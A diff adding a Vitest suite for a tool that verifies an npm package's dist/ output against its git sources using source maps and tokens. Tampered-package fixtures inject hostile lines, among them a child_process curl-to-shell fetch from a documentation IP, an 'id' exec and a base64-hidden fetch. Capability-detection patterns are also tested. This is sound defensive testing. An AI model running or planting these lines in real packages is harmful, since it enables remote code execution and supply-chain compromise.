@@ -1,0 +1,237 @@
+/**
+ * npm build output (dist/) judged by its content, on packages built here by the real TypeScript compiler
+ * (the project's own dev dependency) and packed by the real `npm pack`; tampered copies are the package
+ * re-packed by GNU tar with one line added to dist/index.js.
+ *
+ * Before this check (main 0228c4a), every one of these dist/ files was NPM_BUILD_OUTPUT (info) and the
+ * tampered packages exited 0: the profile matched the output's name to a tracked source and nothing else.
+ */
+import { execFileSync } from 'node:child_process';
+import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { join } from 'node:path';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { formatFinding } from '../../src/core/codes.js';
+import type { Finding } from '../../src/core/findings.js';
+import { capabilitiesOf, decodeMappings, jsTokens, sameTokens, unmappedCodeLines } from '../../src/profiles/npm-dist.js';
+import { verify } from '../../src/verify.js';
+import { makeTar } from '../helpers/archives.js';
+import { makeRepo } from '../helpers/git.js';
+import { tempDir } from '../helpers/tmp.js';
+import { npmPack as npmPackIn } from '../helpers/npm-pack.js';
+
+const root = tempDir('distdiff-npm-dist-');
+const cacheDir = join(root, 'cache');
+const tsc = createRequire(import.meta.url).resolve('typescript/bin/tsc');
+
+const INDEX_TS = `import { greet } from './util';
+
+/** The answer. */
+export const answer: number = 42;
+
+export function hello(name: string): string {
+  return greet(name) + '!';
+}
+`;
+const UTIL_TS = `export function greet(who: string): string {
+  const parts: string[] = ['hello', who];
+  return parts.join(' ');
+}
+`;
+
+const npmPack = (dir: string, dest: string) => npmPackIn(dir, dest, join(root, 'npm-cache'));
+
+interface Pkg {
+  repo: string;
+  tgz: string;
+  /** The package re-packed (GNU tar, package/ prefix) with `edit` applied to its unpacked tree. */
+  tampered: (edit: (dir: string) => void) => string;
+}
+
+let n = 0;
+/** A TypeScript package: tracked sources and tsconfig, dist/ built by tsc (not tracked), packed by npm. */
+function tsPackage(name: string, compilerOptions: Record<string, unknown>, extra: Record<string, string> = {}): Pkg {
+  const repoDir = join(root, name);
+  const repo = makeRepo(repoDir);
+  repo.commit({
+    'package.json': JSON.stringify({ name, version: '1.0.0', main: 'dist/index.js', types: 'dist/index.d.ts', files: ['dist'], scripts: { build: 'tsc' } }, null, 2) + '\n',
+    'tsconfig.json': JSON.stringify({ compilerOptions: { target: 'ES2020', module: 'commonjs', rootDir: 'src', outDir: 'dist', declaration: true, strict: true, ...compilerOptions }, include: ['src'] }, null, 2) + '\n',
+    '.gitignore': 'dist/\n',
+    'src/index.ts': INDEX_TS,
+    'src/util.ts': UTIL_TS,
+    ...extra,
+  });
+  repo.tag('v1.0.0');
+  execFileSync(process.execPath, [tsc, '-p', repoDir], { stdio: ['ignore', 'pipe', 'pipe'] });
+  const tgz = npmPack(repoDir, join(root, `${name}-packs`));
+  const unpacked = join(root, `${name}-unpacked`);
+  mkdirSync(unpacked);
+  execFileSync('tar', ['-xzf', tgz, '-C', unpacked]);
+  return {
+    repo: repoDir,
+    tgz,
+    tampered: (edit) => {
+      const dir = join(root, `tampered-${++n}`, 'package');
+      mkdirSync(dir, { recursive: true });
+      cpSync(join(unpacked, 'package'), dir, { recursive: true });
+      edit(dir);
+      return makeTar(dir, { compress: 'gzip', out: join(root, `tampered-${n}`, `${name}-1.0.0.tgz`) });
+    },
+  };
+}
+
+const addLine = (dir: string, line: string) => {
+  const p = join(dir, 'dist/index.js');
+  writeFileSync(p, readFileSync(p, 'utf8').replace('exports.hello = hello;\n', `exports.hello = hello;\n${line}\n`));
+};
+const run = (tgz: string, repo: string) => verify({ tarball: tgz, repo, cacheDir });
+const at = (fs: Finding[], path: string) => fs.find((f) => f.path === path)!;
+const dist = (fs: Finding[]) => fs.filter((f) => f.path.startsWith('dist/')).map((f) => `${f.path} ${f.code} ${f.severity}`).sort();
+
+describe('dist/ with source maps (tsc --sourceMap --inlineSources)', () => {
+  let pkg: Pkg;
+  beforeAll(() => {
+    pkg = tsPackage('mapped', { sourceMap: true, inlineSources: true });
+  }, 120_000);
+
+  it('proves each script and map by its source map: embedded sources are git\'s, every code line mapped; declarations are built, not proved', async () => {
+    const r = await run(pkg.tgz, pkg.repo);
+    expect(dist(r.findings)).toEqual([
+      'dist/index.d.ts NPM_BUILD_OUTPUT_UNPROVED low',
+      'dist/index.js NPM_BUILD_OUTPUT info',
+      'dist/index.js.map NPM_BUILD_OUTPUT info',
+      'dist/util.d.ts NPM_BUILD_OUTPUT_UNPROVED low',
+      'dist/util.js NPM_BUILD_OUTPUT info',
+      'dist/util.js.map NPM_BUILD_OUTPUT info',
+    ]);
+    expect(at(r.findings, 'dist/index.js').evidence).toEqual({ source: 'src/index.ts', proof: 'source-map', map: 'dist/index.js.map', sources: ['src/index.ts'] });
+    expect(formatFinding(at(r.findings, 'dist/index.js'))).toBe("built from src/index.ts: its source map (dist/index.js.map) embeds git's src/index.ts and maps every code line");
+    expect(at(r.findings, 'dist/index.d.ts').evidence).toEqual({ source: 'src/index.ts', kind: 'declaration', why: 'compiled' });
+    expect(r.verdict).not.toBe('different');
+  }, 120_000);
+
+  it('one line added to dist/index.js: NPM_BUILD_OUTPUT_MISMATCH high — the added line and the lines it pushed off their mappings shown', async () => {
+    const r = await run(pkg.tampered((d) => addLine(d, 'console.log("hello from dist");')), pkg.repo);
+    const f = at(r.findings, 'dist/index.js');
+    expect(f.code).toBe('NPM_BUILD_OUTPUT_MISMATCH');
+    expect(f.severity).toBe('high');
+    expect(f.evidence).toMatchObject({ source: 'src/index.ts', map: 'dist/index.js.map', differingSources: [], unmapped: 4 });
+    if (f.code !== 'NPM_BUILD_OUTPUT_MISMATCH') throw new Error(f.code);
+    // Line 5 is the added one; 8–10 now sit on the mappings of the lines below them (names their source lines lack).
+    expect(f.evidence.unmappedLines).toEqual([
+      { line: 5, text: 'console.log("hello from dist");' },
+      { line: 8, text: 'exports.answer = 42;' },
+      { line: 9, text: 'function hello(name) {' },
+      { line: 10, text: "return (0, util_1.greet)(name) + '!';" },
+    ]);
+    expect(r.verdict).toBe('different');
+  }, 120_000);
+
+  it('a payload line: the mismatch also names the capability no tracked source has', async () => {
+    const r = await run(pkg.tampered((d) => addLine(d, 'require("child_process").exec("curl -s http://198.51.100.7/x | sh");')), pkg.repo);
+    const f = at(r.findings, 'dist/index.js');
+    expect(f.code).toBe('NPM_BUILD_OUTPUT_MISMATCH');
+    expect(f.evidence).toMatchObject({ unmapped: 4, capabilities: ['child-process'] });
+  }, 120_000);
+
+  it('a map embedding a source that is not git\'s: mismatch naming it', async () => {
+    const r = await run(
+      pkg.tampered((d) => {
+        const p = join(d, 'dist/util.js.map');
+        const m = JSON.parse(readFileSync(p, 'utf8')) as { sourcesContent: string[] };
+        m.sourcesContent[0] = m.sourcesContent[0]!.replace("'hello'", "'howdy'");
+        writeFileSync(p, JSON.stringify(m));
+      }),
+      pkg.repo,
+    );
+    for (const path of ['dist/util.js', 'dist/util.js.map']) {
+      const f = at(r.findings, path);
+      expect(f.code).toBe('NPM_BUILD_OUTPUT_MISMATCH');
+      expect(f.evidence).toMatchObject({ differingSources: ['src/util.ts'], unmapped: 0 });
+    }
+  }, 120_000);
+});
+
+describe('dist/ without source maps', () => {
+  let pkg: Pkg;
+  beforeAll(() => {
+    pkg = tsPackage('plain', {});
+  }, 120_000);
+
+  it('labelled as built, not proved (low): the default gate passes, the report says what it is', async () => {
+    const r = await run(pkg.tgz, pkg.repo);
+    expect(dist(r.findings)).toEqual([
+      'dist/index.d.ts NPM_BUILD_OUTPUT_UNPROVED low',
+      'dist/index.js NPM_BUILD_OUTPUT_UNPROVED low',
+      'dist/util.d.ts NPM_BUILD_OUTPUT_UNPROVED low',
+      'dist/util.js NPM_BUILD_OUTPUT_UNPROVED low',
+    ]);
+    expect(formatFinding(at(r.findings, 'dist/index.js'))).toBe('a script built from src/index.ts, not proved (compiled, no source map)');
+    expect(r.verdict).not.toBe('different');
+  }, 120_000);
+
+  it('an added line that spawns a process, which no tracked source does: high', async () => {
+    const r = await run(pkg.tampered((d) => addLine(d, 'require("child_process").exec("id");')), pkg.repo);
+    const f = at(r.findings, 'dist/index.js');
+    expect(f.code).toBe('NPM_BUILD_OUTPUT_UNPROVED');
+    expect(f.severity).toBe('high');
+    expect(f.severityReason).toEqual({ reason: 'new-capability', default: 'low' });
+    expect(f.evidence).toEqual({ source: 'src/index.ts', kind: 'script', why: 'compiled', capabilities: ['child-process'] });
+    expect(r.verdict).toBe('different');
+  }, 120_000);
+
+  it('a fetch of decoded data: network and base64-decode', async () => {
+    const r = await run(pkg.tampered((d) => addLine(d, 'fetch(Buffer.from("aHR0cDovLzE5OC41MS4xMDAuNy94", "base64").toString());')), pkg.repo);
+    expect(at(r.findings, 'dist/index.js').evidence).toMatchObject({ capabilities: ['base64-decode', 'network'] });
+  }, 120_000);
+
+  it('a benign added line stays low: without a map nothing proves or refutes it (said in the finding)', async () => {
+    const r = await run(pkg.tampered((d) => addLine(d, 'exports.extra = 1;')), pkg.repo);
+    expect(at(r.findings, 'dist/index.js').severity).toBe('low');
+  }, 120_000);
+});
+
+describe('a tracked script copied to dist/', () => {
+  it('proved by its tokens; one changed token is not', async () => {
+    const repoDir = join(root, 'copied');
+    const repo = makeRepo(repoDir);
+    const src = "'use strict';\n// the answer\nexports.answer = function answer() {\n  return /a\\/b/.test('a/b') ? 42 : 0;\n};\n";
+    repo.commit({ 'package.json': JSON.stringify({ name: 'copied', version: '1.0.0', main: 'dist/index.js', files: ['dist'] }) + '\n', 'src/index.js': src, '.gitignore': 'dist/\n' });
+    repo.tag('v1.0.0');
+    mkdirSync(join(repoDir, 'dist'));
+    writeFileSync(join(repoDir, 'dist/index.js'), "'use strict';\nexports.answer = function answer() { return /a\\/b/.test('a/b') ? 42 : 0; };\n");
+    const r = await run(npmPack(repoDir, join(root, 'copied-packs')), repoDir);
+    expect(at(r.findings, 'dist/index.js').evidence).toEqual({ source: 'src/index.js', proof: 'tokens' });
+    expect(at(r.findings, 'dist/index.js').severity).toBe('info');
+    writeFileSync(join(repoDir, 'dist/index.js'), "'use strict';\nexports.answer = function answer() { return /a\\/b/.test('a/b') ? 43 : 0; };\n");
+    const r2 = await run(npmPack(repoDir, join(root, 'copied-packs2')), repoDir);
+    expect(at(r2.findings, 'dist/index.js').code).toBe('NPM_BUILD_OUTPUT_UNPROVED');
+  }, 120_000);
+});
+
+describe('npm-dist helpers', () => {
+  it('tokenises JavaScript without comments and whitespace, keeping strings and regular expressions whole', () => {
+    expect(jsTokens('a = /x\\/*y/g; // c\nb /* d */ = "e // f" + `g ${h}`;')).toEqual(['a', '=', '/x\\/*y/g', ';', 'b', '=', '"e // f"', '+', '`g ${h}`', ';']);
+    expect(jsTokens('x = a / b / c')).toEqual(['x', '=', 'a', '/', 'b', '/', 'c']);
+    expect(sameTokens('let a=1;//x\n', 'let  a = 1 ;')).toBe(true);
+    expect(sameTokens('let a=1;', 'let a=1;b();')).toBe(false);
+  });
+
+  it('decodes source map mappings and finds code lines no mapping covers', () => {
+    // "AAAA;AACA" = line 1 col 0 → source 0 line 0 col 0; line 2 col 0 → source 0 line 1 col 0.
+    expect(decodeMappings('AAAA;AACA;;')).toEqual([[[0, 0, 0, 0]], [[0, 0, 1, 0]], [], []]);
+    expect(decodeMappings('A!')).toBeUndefined();
+    expect(unmappedCodeLines('"use strict";\nfoo();\nbar();\n// c\n}\n', decodeMappings(';AAAA')!)).toEqual([3]);
+    // A name the mapped source line lacks; compiler glue (exports, util_1, keywords) is not counted.
+    expect(unmappedCodeLines('exports.a = util_1.f(x);\nevil(x);\n', decodeMappings('AAAA;AAAA')!, ['a = f(x);\n'])).toEqual([2]);
+    // A tsc helper block has no mappings and is not code of the package.
+    expect(unmappedCodeLines('var __awaiter = (this && this.__awaiter) || function (a) {\n  return a;\n};\nf();\n', decodeMappings(';;;AAAA')!, ['f();\n'])).toEqual([]);
+  });
+
+  it('names capabilities', () => {
+    expect(capabilitiesOf('const cp = require("child_process");')).toEqual(['child-process']);
+    expect(capabilitiesOf('new Function(atob(s))()')).toEqual(['eval', 'base64-decode']);
+    expect(capabilitiesOf('import https from "node:https"; obj.eval(1); prefetch(x);')).toEqual(['network']);
+    expect(capabilitiesOf('process.dlopen(m, p)')).toEqual(['native-code']);
+  });
+});
